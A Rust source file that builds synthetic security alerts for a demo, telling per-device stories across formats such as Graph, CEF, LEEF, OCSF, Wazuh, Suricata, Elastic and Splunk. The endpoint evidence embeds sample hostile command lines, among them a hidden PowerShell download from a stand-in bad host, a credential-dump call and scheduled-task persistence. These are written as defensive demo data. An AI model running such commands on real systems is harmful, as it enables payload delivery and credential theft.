//! The stories of the demo: what happened on one device to one person, told by several products.

use serde_json::json;

use crate::alert::format::Format;
use crate::clock::Timestamp;

/// One story. Device, person and addresses are its own, so that stories do not run together.
pub(super) struct Story<'a> {
    number: usize,
    domain: &'a str,
    start: Timestamp,
}

const PEOPLE: [&str; 12] = [
    "ida.lund",
    "tore.moen",
    "maja.friis",
    "per.aalto",
    "linn.berg",
    "omar.haddad",
    "eva.novak",
    "jon.sand",
    "rosa.lima",
    "kai.storm",
    "nils.vik",
    "anna.roos",
];

const LATEST_HOURS: i64 = 9 * 24;

impl<'a> Story<'a> {
    pub(super) fn new(number: usize, domain: &'a str, now: Timestamp) -> Self {
        // Spread over the nine days before now, later stories later.
        let hours = LATEST_HOURS - 6 * number as i64;
        Self { number, domain, start: now.plus_seconds(-hours * 3600) }
    }

    fn host(&self) -> String {
        let kind = ["laptop", "desktop", "server"][self.number % 3];
        format!("{kind}-{:02}", self.number + 11)
    }

    fn device(&self) -> String {
        format!("{}.{}", self.host(), self.domain)
    }

    fn person(&self) -> String {
        format!("{}{:02}", PEOPLE[self.number % PEOPLE.len()], self.number)
    }

    fn mail(&self) -> String {
        format!("{}@{}", self.person(), self.domain)
    }

    fn outside(&self) -> String {
        format!("203.0.113.{}", self.number + 20)
    }

    fn inside(&self) -> String {
        format!("10.44.{}.{}", self.number, self.number + 7)
    }

    fn hash(&self) -> String {
        let seed = format!("{} {}", self.domain, self.number);
        crate::tenant::hash(&seed)
    }

    fn at(&self, minutes: i64) -> String {
        self.start.plus_seconds(minutes * 60).to_string()
    }

    fn epoch(&self, minutes: i64) -> i64 {
        self.start.plus_seconds(minutes * 60).micros() / 1_000_000
    }

    pub(super) fn product(&self) -> &'static str {
        ["Endpoint connector", "Network sensors", "Log collector"][self.number % 3]
    }

    /// The records in the order they arrive.
    pub(super) fn records(&self) -> Vec<(Format, String)> {
        match self.number % 11 {
            0 => vec![self.endpoint(0, "high"), self.mail_delivered(-30), self.network(12)],
            1 => vec![self.identity(0), self.identity_ocsf(25)],
            2 => vec![self.wazuh(0), self.suricata(4)],
            3 => vec![self.elastic(0), self.endpoint(9, "medium")],
            4 => vec![self.splunk(0)],
            5 => vec![self.firewall(0)],
            6 => vec![self.appliance(0)],
            7 => vec![self.data_loss(0)],
            8 => vec![self.defender(0), self.endpoint(3, "high"), self.endpoint(30, "medium")],
            9 => vec![self.endpoint(0, "low")],
            _ => vec![self.endpoint(0, "medium"), self.wazuh(7)],
        }
    }

    fn endpoint(&self, minutes: i64, severity: &str) -> (Format, String) {
        let (title, category, technique, line) = match (self.number + minutes as usize) % 4 {
            0 => (
                "Script interpreter fetched a payload",
                "Execution",
                "T1059.001",
                "powershell -nop -w hidden -c iwr http://files.bad.example/a",
            ),
            1 => (
                "Credential store read by an unusual process",
                "CredentialAccess",
                "T1003.001",
                "rundll32 helper.dll,dump 652",
            ),
            2 => ("Files encrypted in quick succession", "Impact", "T1486", "locker.exe --all"),
            _ => (
                "New scheduled task runs from a user folder",
                "Persistence",
                "T1053.005",
                "schtasks /create /tn upd /tr c:\\users\\public\\upd.exe",
            ),
        };
        let record = json!({
            "id": format!("ep-{}-{}-{minutes}", self.domain, self.number),
            "providerAlertId": format!("ep-{}-{}-{minutes}", self.domain, self.number),
            "title": title,
            "description": format!("{title} on {}.", self.device()),
            "severity": severity,
            "status": "new",
            "category": category,
            "serviceSource": "microsoftDefenderForEndpoint",
            "detectionSource": "microsoftDefenderForEndpoint",
            "productName": "Endpoint protection",
            "mitreTechniques": [technique],
            "createdDateTime": self.at(minutes + 1),
            "lastUpdateDateTime": self.at(minutes + 1),
            "firstActivityDateTime": self.at(minutes),
            "lastActivityDateTime": self.at(minutes),
            "evidence": [
                {
                    "@odata.type": "#microsoft.graph.security.deviceEvidence",
                    "deviceDnsName": self.device(),
                    "hostName": self.host(),
                    "osPlatform": "Windows11",
                    "roles": ["attacked"],
                    "verdict": "suspicious",
                },
                {
                    "@odata.type": "#microsoft.graph.security.userEvidence",
                    "userAccount": {
                        "accountName": self.person(),
                        "userPrincipalName": self.mail(),
                    },
                },
                {
                    "@odata.type": "#microsoft.graph.security.processEvidence",
                    "processId": 4000 + self.number,
                    "processCommandLine": line,
                    "verdict": "malicious",
                    "imageFile": {
                        "fileName": "upd.exe",
                        "filePath": "c:\\users\\public",
                        "sha256": self.hash(),
                    },
                },
            ],
        });
        (Format::Graph, record.to_string())
    }

    fn mail_delivered(&self, minutes: i64) -> (Format, String) {
        let record = json!({
            "id": format!("mail-{}-{}", self.domain, self.number),
            "title": "Mail with a harmful link was delivered",
            "description": "The link leads to a page that asks for passwords.",
            "severity": "medium",
            "category": "InitialAccess",
            "serviceSource": "microsoftDefenderForOffice365",
            "detectionSource": "microsoftDefenderForOffice365",
            "productName": "Mail protection",
            "mitreTechniques": ["T1566.002"],
            "createdDateTime": self.at(minutes),
            "firstActivityDateTime": self.at(minutes),
            "evidence": [
                {
                    "@odata.type": "#microsoft.graph.security.analyzedMessageEvidence",
                    "networkMessageId": format!("{}-{}", &self.hash()[..8], self.number),
                    "internetMessageId": format!("<{}@parcel-desk.example>", &self.hash()[8..20]),
                    "subject": "Delivery note",
                    "recipientEmailAddress": self.mail(),
                    "senderIp": self.outside(),
                    "p1Sender": {"emailAddress": "billing@parcel-desk.example"},
                },
                {
                    "@odata.type": "#microsoft.graph.security.mailboxEvidence",
                    "primaryAddress": self.mail(),
                    "upn": self.mail(),
                },
            ],
        });
        (Format::Graph, record.to_string())
    }

    fn network(&self, minutes: i64) -> (Format, String) {
        (
            Format::Cef,
            format!(
                "CEF:0|Palisade|Gateway|9.1|7710|Connection to a known control server|8|rt={} \
                 src={} shost={} suser={} dst={} dpt=443 act=alert",
                self.epoch(minutes) * 1000,
                self.inside(),
                self.device(),
                self.mail(),
                self.outside(),
            ),
        )
    }

    fn identity(&self, minutes: i64) -> (Format, String) {
        let record = json!({
            "SystemAlertId": format!("id-{}-{}", self.domain, self.number),
            "AlertName": "Sign-in from two distant places",
            "DisplayName": "Sign-in from two distant places",
            "Description": "The same account signed in from places too far apart.",
            "AlertSeverity": "Medium",
            "ProviderName": "IPC",
            "ProductName": "Azure Active Directory Identity Protection",
            "Status": "New",
            "Tactics": "InitialAccess",
            "Techniques": "[\"T1078\"]",
            "StartTime": self.at(minutes),
            "EndTime": self.at(minutes + 2),
            "TimeGenerated": self.at(minutes + 4),
            "Entities": [
                {"$id": "1", "Type": "account", "Name": self.person(), "UPNSuffix": self.domain,
                 "UserPrincipalName": self.mail()},
                {"$id": "2", "Type": "ip", "Address": self.outside()},
            ],
        });
        (Format::Sentinel, record.to_string())
    }

    fn identity_ocsf(&self, minutes: i64) -> (Format, String) {
        let record = json!({
            "class_uid": 2004,
            "class_name": "Detection Finding",
            "category_uid": 2,
            "activity_id": 1,
            "type_uid": 200_401,
            "severity_id": 4,
            "severity": "High",
            "time": self.epoch(minutes) * 1000,
            "message": "Many consent grants by one account",
            "finding_info": {
                "uid": format!("ocsf-{}-{}", self.domain, self.number),
                "title": "Many consent grants by one account",
                "created_time": self.epoch(minutes) * 1000,
            },
            "metadata": {
                "version": "1.3.0",
                "product": {"name": "Cloud guard", "vendor_name": "Nimbus"},
            },
            "actor": {"user": {"name": self.person(), "email_addr": self.mail()}},
            "src_endpoint": {"ip": self.outside()},
        });
        (Format::Ocsf, record.to_string())
    }

    fn wazuh(&self, minutes: i64) -> (Format, String) {
        let stamp = self.at(minutes);
        let record = json!({
            "timestamp": format!("{}.000+0000", &stamp[..19]),
            "rule": {
                "level": 12,
                "id": "92052",
                "description": "Command shell started by a service",
                "mitre": {"id": ["T1059"], "tactic": ["Execution"]},
                "groups": ["sysmon"],
            },
            "agent": {"id": format!("{:03}", self.number), "name": self.device(), "ip": self.inside()},
            "manager": {"name": "collector"},
            "id": format!("{}.{}", self.epoch(minutes), self.number),
            "data": {"win": {"eventdata": {"user": self.mail(), "sourceIp": self.inside()}}},
            "location": "EventChannel",
        });
        (Format::Wazuh, record.to_string())
    }

    fn suricata(&self, minutes: i64) -> (Format, String) {
        let stamp = self.at(minutes);
        let record = json!({
            "timestamp": format!("{}.000000+0000", &stamp[..19]),
            "flow_id": 700_000_000_000_000_i64 + self.number as i64,
            "event_type": "alert",
            "src_ip": self.inside(),
            "src_port": 50_112,
            "dest_ip": self.outside(),
            "dest_port": 443,
            "proto": "TCP",
            "alert": {
                "action": "allowed",
                "signature_id": 2_850_001,
                "signature": "Encrypted traffic to a young domain",
                "category": "A Network Trojan was detected",
                "severity": 1,
            },
        });
        (Format::Suricata, record.to_string())
    }

    fn elastic(&self, minutes: i64) -> (Format, String) {
        let record = json!({
            "kibana.alert.uuid": format!("el-{}-{}", self.domain, self.number),
            "kibana.alert.rule.name": "Unusual parent of a shell",
            "kibana.alert.rule.description": "A document viewer started a shell.",
            "kibana.alert.severity": "high",
            "kibana.alert.original_time": self.at(minutes),
            "@timestamp": self.at(minutes),
            "host": {"name": self.device(), "hostname": self.host(), "os": {"platform": "windows"}},
            "user": {"name": self.mail()},
            "process": {
                "name": "cmd.exe",
                "pid": 3120,
                "command_line": "cmd /c whoami",
                "hash": {"sha256": self.hash()},
            },
        });
        (Format::Elastic, record.to_string())
    }

    fn splunk(&self, minutes: i64) -> (Format, String) {
        let record = json!({
            "_time": self.at(minutes),
            "event_id": format!("sp-{}-{}", self.domain, self.number),
            "search_name": "Access - Many failed sign-ins then one success - Rule",
            "rule_title": "Many failed sign-ins, then one success",
            "rule_description": "Passwords were tried against one account until one fitted.",
            "severity": "high",
            "urgency": "high",
            "src": self.outside(),
            "dest": self.device(),
            "user": self.mail(),
        });
        (Format::Splunk, record.to_string())
    }

    fn firewall(&self, minutes: i64) -> (Format, String) {
        (
            Format::Leef,
            format!(
                "LEEF:1.0|Rampart|Firewall|4.2|intrusion|devTime={}\tsev=8\tcat=intrusion\tsrc={}\t\
                 dst={}\tidentHostName={}\tusrName={}\tmsg=Exploit attempt against a file server",
                self.epoch(minutes) * 1000,
                self.outside(),
                self.inside(),
                self.device(),
                self.mail(),
            ),
        )
    }

    fn appliance(&self, minutes: i64) -> (Format, String) {
        (
            Format::Cef,
            format!(
                "CEF:0|Palisade|Mail gateway|9.1|310|Attachment with a macro was held|5|rt={} \
                 duser={} src={} shost={} fname=invoice.xlsm fileHash={}",
                self.epoch(minutes) * 1000,
                self.mail(),
                self.outside(),
                self.device(),
                self.hash(),
            ),
        )
    }

    fn data_loss(&self, minutes: i64) -> (Format, String) {
        let record = json!({
            "id": format!("dlp-{}-{}", self.domain, self.number),
            "title": "Customer list sent to a private mailbox",
            "severity": "medium",
            "category": "Exfiltration",
            "serviceSource": "dataLossPrevention",
            "detectionSource": "microsoftDataLossPrevention",
            "productName": "Data loss prevention",
            "createdDateTime": self.at(minutes),
            "evidence": [{
                "@odata.type": "#microsoft.graph.security.userEvidence",
                "userAccount": {"userPrincipalName": self.mail(), "accountName": self.person()},
            }],
        });
        (Format::Graph, record.to_string())
    }

    fn defender(&self, minutes: i64) -> (Format, String) {
        let record = json!({
            "incidentId": 9_000 + self.number,
            "incidentName": "Hands-on activity on one endpoint",
            "createdTime": self.at(minutes),
            "lastUpdateTime": self.at(minutes + 5),
            "status": "Active",
            "severity": "High",
            "alerts": [{
                "alertId": format!("df-{}-{}", self.domain, self.number),
                "serviceSource": "MicrosoftDefenderATP",
                "creationTime": self.at(minutes),
                "lastUpdatedTime": self.at(minutes + 5),
                "firstActivity": self.at(minutes),
                "lastActivity": self.at(minutes + 2),
                "title": "Remote shell opened by a service account",
                "description": "A shell was opened from outside.",
                "category": "LateralMovement",
                "status": "New",
                "severity": "High",
                "detectionSource": "WindowsDefenderAtp",
                "mitreTechniques": ["T1021.002"],
                "devices": [{
                    "mdatpDeviceId": &self.hash()[..40],
                    "deviceDnsName": self.device(),
                    "osPlatform": "Windows10",
                }],
                "entities": [{
                    "entityType": "User",
                    "accountName": self.person(),
                    "userPrincipalName": self.mail(),
                }],
            }],
        });
        (Format::Defender, record.to_string())
    }
}
